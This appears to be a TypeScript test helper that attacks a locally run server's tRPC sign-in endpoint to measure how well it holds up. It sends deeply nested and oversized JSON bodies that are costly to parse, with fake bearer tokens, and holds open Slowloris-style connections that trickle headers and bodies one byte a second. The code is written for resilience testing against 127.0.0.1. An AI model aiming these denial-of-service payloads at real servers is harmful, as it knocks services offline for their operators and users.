// A visitor who wants to stall the server, as a process of its own: what it costs to attack is no time of whoever measures.
// Only addresses of this machine are attacked. Started with the port; told to stop by the end of its input.
import { randomUUID } from "node:crypto";
import { Agent, request } from "node:http";
import { connect, type Socket } from "node:net";

const HOST = "127.0.0.1";
const port = Number(process.argv[2]);
const size = Number(process.argv[3]);

const agent = new Agent({ keepAlive: true, maxSockets: 100 });
/** Until it is told to stop. */
const going = new AbortController();
const counts: Record<string, number> = {};

/** Bodies that each cost a server that reads them whole a second: deep, of many instructions, and of one endless number. */
const BODIES = [
  `{"0":{"json":${"[".repeat(300_000)}${"]".repeat(300_000)},"meta":{"values":{}}}}`,
  JSON.stringify({
    0: {
      json: Array.from({ length: 15_000 }, () => "2026-01-01T00:00:00Z"),
      meta: { values: Object.fromEntries(Array.from({ length: 15_000 }, (_, index) => [index, ["Date"]])) },
    },
  }),
  `{"0":{"json":{"a":"${"9".repeat(600_000)}"},"meta":{"values":{"a":["bigint"]}}}}`,
];

function post(body: string, headers: Record<string, string> = {}): Promise<void> {
  return new Promise((resolve) => {
    const path = "/trpc/auth.signIn?batch=1";
    const all = { "content-type": "application/json", ...headers };
    const outgoing = request({ agent, host: HOST, port, path, method: "POST", headers: all }, (answer) => {
      answer.resume();
      const status = String(answer.statusCode);
      counts[status] = (counts[status] ?? 0) + 1;
      answer.on("close", resolve);
    });
    outgoing.on("error", () => {
      counts.cut = (counts.cut ?? 0) + 1;
      resolve();
    });
    outgoing.end(body);
  });
}

/** Sends one body after the other; every other time with a token that is none. */
async function flood(first: number): Promise<void> {
  for (let index = first; !going.signal.aborted; index++) {
    const headers = index % 2 === 0 ? undefined : { authorization: `Bearer ${randomUUID()}.a.b` };
    await post(BODIES[index % BODIES.length] ?? "", headers);
  }
}

const open = new Set<Socket>();

/** A connection that sends a letter a second of what it has announced, and is made anew when it is ended. */
function drip(head: string): void {
  if (going.signal.aborted) return;
  const socket = connect(port, HOST);
  open.add(socket);
  socket.write(head);
  const drop = setInterval(() => socket.write("x"), 1_000);
  socket.on("error", () => {});
  socket.on("close", () => {
    clearInterval(drop);
    open.delete(socket);
    counts.ended = (counts.ended ?? 0) + 1;
    setTimeout(() => drip(head), 1_000);
  });
}

const SLOW_HEAD = "POST /trpc/auth.signIn HTTP/1.1\r\nHost: x\r\nX-";
const SLOW_BODY =
  "POST /trpc/auth.signIn HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\nContent-Length: 60000\r\n\r\n{";
for (let n = 0; n < size; n++) {
  drip(SLOW_HEAD);
  drip(SLOW_BODY);
}
for (let n = 0; n < 3; n++) void flood(n);

process.once("disconnect", () => {
  going.abort();
  process.exit(0);
});
process.on("message", () => {
  process.send?.({ ...counts, open: open.size });
});
process.send?.("ready");
